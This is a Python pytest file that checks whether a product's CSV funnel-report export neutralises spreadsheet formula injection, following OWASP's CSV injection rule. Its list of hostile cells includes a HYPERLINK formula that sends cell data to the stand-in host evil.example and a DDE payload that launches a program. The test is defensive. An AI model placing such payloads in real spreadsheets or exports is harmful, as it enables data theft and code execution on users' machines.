"""Every CSV the product writes shows formula-looking text as text (OWASP's CSV injection rule)."""
from __future__ import annotations

import csv
import io

import pytest

from server.runtime.funnel_report import to_csv

HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
           "\t=1+1", "\r=1+1", "＝1+1"]


@pytest.mark.parametrize("cell", HOSTILE)
def test_funnel_csv_neutralises_formula_ids(cell):
    report = {"version": 1, "states": [{"id": cell, "entered": 3, "left": {"x": 1}, "median_seconds": None,
                                        "ended": {"cancel": 0, "expired": 0, "completed": 1, "restart": 0, "back": 0}}],
              "transitions": [{"id": cell, "source": cell, "target": "ok", "fired": 2}]}
    rows = list(csv.reader(io.StringIO(to_csv([report]))))
    cells = [value for row in rows[1:] for value in row]
    assert cells.count("'" + cell) == 3, rows
    assert not any(value.startswith(("=", "+", "-", "@", "\t", "\r", "＝")) for value in cells)
    # Plain ids and the numbers stay as they are.
    assert rows[2][4] == "ok" and rows[1][5] == "3"
